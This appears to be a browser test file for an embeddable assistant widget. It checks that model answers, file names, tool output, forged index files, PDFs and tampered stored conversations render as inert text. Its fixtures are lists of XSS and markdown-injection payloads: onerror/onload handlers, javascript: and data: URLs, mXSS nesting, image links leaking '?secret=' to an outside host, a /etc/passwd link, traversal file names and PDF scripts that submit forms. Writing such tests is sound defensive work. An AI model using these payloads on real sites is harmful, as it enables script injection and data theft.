// Texts that attack: in names of files, in documents, answers, results of tools, index files, PDFs
// and kept conversations. The page has the strictest policy there is, and it must have nothing to
// report: what attacks is words.

import assert from "node:assert/strict";
import { test } from "node:test";
import { replaced } from "../../pkg/test-support/forge.mjs";
import { serveFile } from "../server/static.mjs";
import { SLOW_MS } from "./browser.mjs";
import { makePdf } from "./pdf-files.mjs";
import { www } from "./support.mjs";
import { modelSaying, openWidget } from "./widget.mjs";

const options = { timeout: 2 * SLOW_MS };
const inline = (more = "") => `<qwen-assistant mode="inline" storage="memory" ${more}></qwen-assistant>`;

/** Runs something or asks something of another origin, if any of it becomes more than text. */
const MARKUP = [
  '<img src="https://elsewhere.example/1.png" onerror="document.title=1">',
  '<svg onload="document.title=2"><script>document.title=3</script><use href="https://elsewhere.example/2.svg#a"/></svg>',
  '<iframe srcdoc="<script>parent.document.title=4</script>"></iframe><object data="https://elsewhere.example/3"></object><embed src="https://elsewhere.example/4">',
  '<style>@import "https://elsewhere.example/5.css"; * { background: url(https://elsewhere.example/6) }</style><link rel="stylesheet" href="https://elsewhere.example/7.css">',
  '<form action="https://elsewhere.example/8"><button formaction="javascript:document.title=5">Go on</button></form><base href="https://elsewhere.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=document.title=6></style></mglyph></table></mtext></math><template shadowrootmode="open"><img src=x onerror=document.title=7></template>',
  '<a href="javascript:document.title=8">link</a><video poster="https://elsewhere.example/9"><source onerror="document.title=9"></video><meta http-equiv="refresh" content="0;url=https://elsewhere.example/10">',
];

/** Markdown whose addresses are none that may be followed or loaded. */
const MARKDOWN = [
  "[a](javascript:document.title=10)", "[b](JaVaScRiPt:document.title=11)", "[c](java\nscript:document.title=12)", "[d](&#106;avascript:document.title=13)", "[e](\u0001javascript:document.title=14)",
  "[f](data:text/html,<script>alert(1)</script>)", "[g](vbscript:x)", "[h](blob:https://elsewhere.example/x)", "[i](file:///etc/passwd)", "[j](//elsewhere.example/x)", "[k](/relative)", "[l](<javascript:document.title=15>)",
  "<javascript:document.title=16>", "[m][ref]", "", "[ref]: javascript:document.title=17", "", "![n](https://elsewhere.example/?secret=1)", "![o](data:image/svg+xml,<svg/onload=alert(1)>)", "![p](javascript:document.title=18)",
  "[![q](https://elsewhere.example/?secret=2)](javascript:document.title=19)", '[r](https://elsewhere.example/ "x\\" onmouseover=\\"document.title=20")', "[s](https://elsewhere.example/%22onclick=%22document.title=21)",
  "```<img src=x onerror=document.title=22>\ncode\n```", "$\\href{javascript:document.title=23}{x}$ $\\text{<img src=x onerror=document.title=24>}$", "| <img src=x onerror=document.title=25> |\n| --- |\n| <script>document.title=26</script> |",
].join("\n\n");

/** What is in the widget that could run, load or lead somewhere; the widget's own pictures aside. */
function strange(widget) {
  return widget.evaluate((element) => {
    const root = element.shadowRoot;
    const own = [...root.querySelectorAll("img, script, iframe, object, embed, video, audio, source, form[action], base, link, meta, template, style, svg:not(.icon), mglyph, [srcdoc], [background], [poster]")];
    const handlers = [...root.querySelectorAll("*")].filter(({ attributes }) => [...attributes].some(({ name }) => name.startsWith("on")));
    const links = [...root.querySelectorAll("a[href], [formaction], [action], use[href]")].filter((one) => !/^(https?|mailto):/.test(one.getAttribute("href") ?? one.getAttribute("formaction") ?? ""));
    return [...own, ...handlers, ...links].map(({ outerHTML }) => outerHTML.slice(0, 200));
  });
}

/** Opens the widget, and gives beside it what asserts that nothing has happened. */
async function attacked(t, how) {
  const opened = await openWidget(t, how);
  const { page, origin, widget, trouble } = opened;
  const foreign = [];
  page.on("request", (request) => new URL(request.url()).origin !== origin && !request.url().startsWith("blob:") && foreign.push(request.url()));
  page.on("dialog", (dialog) => {
    foreign.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const assertCalm = async () => {
    assert.deepEqual(await strange(widget), []);
    assert.equal(await page.title(), "A site");
    assert.equal(page.url().replace(/\/$/, ""), origin);
    assert.equal(await page.evaluate(() => document.querySelectorAll("main img, main iframe, main script").length), 0);
    assert.deepEqual(foreign, []);
    assert.deepEqual(await trouble(), []);
  };
  return { ...opened, assertCalm };
}

test("markup and addresses in an answer become text and links to the web, and nothing is asked for", options, async (t) => {
  const { page, ready, addText, document: row, ask, assertCalm } = await attacked(t, { body: inline(), before: modelSaying(`${MARKDOWN}\n\n${MARKUP.join("\n\n")}`) });
  await ready();
  await addText("loans.txt", "A loan lasts seven days.");
  await row("loans.txt").waitFor();
  const turn = await ask("How long does a loan last?");
  await page.locator('.turn[data-status="done"]').waitFor();
  const text = await turn.locator(".answer-text").textContent();
  for (const markup of ["<img src=", "<svg onload=", "<iframe srcdoc=", "<form action=", "shadowrootmode"]) assert.ok(text.includes(markup), markup);
  const links = await turn.locator(".answer-text a").evaluateAll((all) => all.map(({ href, target, rel }) => [new URL(href).origin, target, rel]));
  assert.ok(links.length > 0);
  for (const link of links) assert.deepEqual(link, ["https://elsewhere.example", "_blank", "noopener noreferrer nofollow"]);
  await assertCalm();
});

test("markup in names, titles and texts of documents becomes text, in the list, in quotes and in the source", options, async (t) => {
  const { page, ready, addText, document: row, ask, assertCalm } = await attacked(t, { body: inline() });
  await ready();
  const names = ['<img src=x onerror=document.title=1>.txt', '"><svg onload=document.title=2>.md', "../../../etc/passwd.txt", "\u202egpj.exe.txt", "javascript:document.title=3.txt"];
  for (const name of names) await addText(name, `# ${MARKUP[0]}\n\nA loan lasts seven days, says ${name}. ${MARKUP.join(" ")}`);
  await page.waitForFunction((count) => document.querySelector("qwen-assistant").shadowRoot.querySelectorAll('.document[data-status="ready"]').length === count, names.length);
  await row("<img src=x").waitFor();
  const turn = await ask(`How long does a loan last? ${MARKUP[0]}`);
  await page.locator('.turn[data-status="done"]').waitFor();
  await turn.locator(".marker").first().click();
  await page.locator("#source mark").first().waitFor();
  assert.match(await page.locator("#source").textContent(), /<svg onload=/);
  await assertCalm();
});

test("markup that a tool gives, or a call carries, is shown as text", options, async (t) => {
  const before = `
    const markup = ${JSON.stringify(MARKUP.join(" "))};
    const { defineTool } = await import("/tools/index.js");
    let calls = 0;
    const chunk = (delta, finish_reason = null) => ({ choices: [{ index: 0, delta, finish_reason }] });
    const model = async function* ({ messages }) {
      calls += 1;
      if (messages.some(({ role }) => role === "tool")) yield chunk({ content: "It lasts seven days." });
      else yield chunk({ tool_calls: ["look", "fails", markup.slice(0, 60)].map((name, index) => ({ index, id: String(index), type: "function", function: { name, arguments: JSON.stringify({ text: markup }) } })) });
      yield chunk({}, messages.some(({ role }) => role === "tool") ? "stop" : "tool_calls");
    };
    const parameters = { type: "object", properties: { text: { type: "string" } } };
    const tools = [
      defineTool({ name: "look", description: "Looks.", parameters, run: () => ({ html: markup, toString: null, __proto__: null }) }),
      defineTool({ name: "fails", description: "Fails.", parameters, run: () => { throw new Error(markup); } }),
    ];
    document.querySelector("qwen-assistant").options = { model, tools, level: "reason", storage: { readings: "memory" } };
  `;
  const { page, ready, addText, document: row, ask, assertCalm } = await attacked(t, { body: inline(), before });
  await ready();
  await addText("loans.txt", "A loan lasts seven days.");
  await row("loans.txt").waitFor();
  const turn = await ask("How long does a loan last?");
  await page.locator('.turn[data-status="done"]').waitFor();
  await turn.locator("details").evaluateAll((all) => all.forEach((one) => (one.open = true)));
  assert.match(await turn.textContent(), /<iframe srcdoc=/);
  await assertCalm();
});

test("a forged index leads to no script, and its titles are titles", options, async (t) => {
  const address = "https://example.org/mill/of-oats-and-rye";
  const script = "javascript:document.title=1//of-oats-rye";
  const title = "A mill of oats and rye, and of much else";
  const files = {};
  const { page, ready, ask, assertCalm } = await attacked(t, { body: "", define: false, files });
  const saved = await page.evaluate(async ({ url, title }) => {
    const { createAssistant } = await import("/index.js");
    const qa = await createAssistant();
    await qa.documents.add({ name: "mill.txt", title, url, bytes: new TextEncoder().encode("The miller is Tove. Oats are ground on Mondays.") }).done;
    const bytes = await qa.library.export();
    await qa.dispose();
    return [...bytes];
  }, { url: address, title });
  files["/site.qai"] = Buffer.from(replaced(replaced(Uint8Array.from(saved), address, script), title, "<img src=x onerror=document.title=1>ABCD"));
  await page.evaluate(async () => {
    await import("/widget/index.js");
    const element = document.createElement("qwen-assistant");
    for (const [name, value] of Object.entries({ mode: "inline", storage: "memory", index: "/site.qai" })) element.setAttribute(name, value);
    document.querySelector("main").append(element);
  });
  await ready();
  const turn = await ask("Who is the miller?");
  await turn.locator(".marker").first().click();
  await page.locator("#source mark").first().waitFor();
  assert.match(await page.locator("#source-title").textContent(), /^<img src=x/);
  assert.equal(await page.locator(".source-link").getAttribute("href"), null);
  await assertCalm();
});

test("a PDF's scripts, actions, links and embedded files do nothing, in the text and on the page", options, async (t) => {
  const act = "/A << /S /URI /URI (https://elsewhere.example/uri) >>";
  const script = "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://elsewhere.example/form'\\)) >>";
  const annotations = `/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 612 792] ${act} >> << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:document.title=1) >> >> << /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=document.title=2>) /V (<script>document.title=3</script>) /Rect [0 0 9 9] /AA << /F ${script} >> >> << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (evil.exe) >> >> ] /AA << /O ${script} >>`;
  const catalog = `/Type /Catalog /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [ (a) ${script} ] >> >> /URI << /Base (https://elsewhere.example/) >>`;
  const plain = makePdf([{ lines: [{ text: "The miller is Tove <script>document.title=4</script>.", x: 72, y: 500 }], more: annotations }]);
  const file = plain.toString("latin1").replace("/Type /Catalog", catalog);
  const pdfjs = Object.fromEntries(["pdf.min.mjs", "pdf.worker.min.mjs"].map((name) => [`/pdfjs/build/${name}`, (request, response) => serveFile(`${www}node_modules/pdfjs-dist/build`, `/${name}`, request, response)]));
  const { page, ready, ask, assertCalm } = await attacked(t, { body: inline('pdfjs="/pdfjs/build/pdf.min.mjs"'), files: pdfjs });
  await ready();
  await page.evaluate(async (text) => {
    const { createAssistant } = await import("/index.js");
    const qa = await createAssistant();
    const file = new File([Uint8Array.from(text, (character) => character.charCodeAt(0))], "mill.pdf");
    await qa.documents.add(file).done;
    qa.documents.original = async () => file;
    document.querySelector("qwen-assistant").assistant = qa;
  }, file);
  await page.locator('.document[data-status="ready"]').waitFor();
  const turn = await ask("Who is the miller?");
  await turn.locator(".marker").first().click();
  await page.locator(".pdf-mark").first().waitFor();
  await page.locator(".pdf-sheet").first().click();
  assert.equal(await page.locator("#source a:not(.source-link), #source .annotationLayer, #source input").count(), 0);
  await assertCalm();
});

test("kept conversations that somebody has changed are shown as text, or left out", options, async (t) => {
  const kept = '<qwen-assistant mode="inline" storage="indexeddb" name="site"></qwen-assistant>';
  const { page, ready, addText, document: row, ask, assertCalm } = await attacked(t, { body: kept });
  await ready();
  await addText("loans.txt", "A loan lasts seven days.");
  await row("loans.txt").waitFor();
  await ask("How long does a loan last?");
  await page.locator('.turn[data-status="done"]').waitFor();
  const changed = await page.evaluate(async (markup) => {
    const settled = (request) => new Promise((resolve, reject) => Object.assign(request, { onsuccess: () => resolve(request.result), onerror: () => reject(request.error) }));
    let count = 0;
    for (const { name } of await indexedDB.databases()) {
      if (!name.endsWith("-sessions")) continue;
      const database = await settled(indexedDB.open(name));
      const transaction = database.transaction(["sessions", "turns"], "readwrite");
      const sessions = transaction.objectStore("sessions");
      const turns = transaction.objectStore("turns");
      for (const session of await settled(sessions.getAll())) {
        const [turn] = await settled(turns.getAll(IDBKeyRange.bound([session.id], [session.id, []])));
        const citation = { ...turn.citations[0], title: markup, url: "javascript:document.title=1", documentId: markup, quote: markup, marker: 1 };
        const wrong = [
          { ...turn, question: markup, text: `${markup} [1]`, citations: [citation], error: { code: markup, message: markup }, status: "failed", extractive: false },
          { ...turn, text: 7, question: null, citations: "none" }, { ...turn, citations: [null, 7, { marker: "x" }], status: markup, level: markup }, {}, null, 7, markup, { question: { toString: 1 } },
        ];
        wrong.forEach((one, number) => turns.put(one, [session.id, number]));
        sessions.put({ ...session, title: markup, turnCount: wrong.length, changed: "yesterday" });
        sessions.put({ id: "other", title: { toString: null } });
        count += 1;
      }
      await new Promise((resolve) => (transaction.oncomplete = resolve));
      database.close();
    }
    return count;
  }, MARKUP.join(" "));
  assert.equal(changed, 1);
  await page.reload();
  await ready();
  await page.locator(".turn").first().waitFor();
  assert.match(await page.locator(".turn").first().textContent(), /<img src=/);
  // And it goes on.
  await addText("more.txt", "A fine is one euro a day.");
  await row("more.txt").waitFor();
  const turn = await ask("How much is a fine?");
  await turn.getByText("one euro").first().waitFor();
  await assertCalm();
});
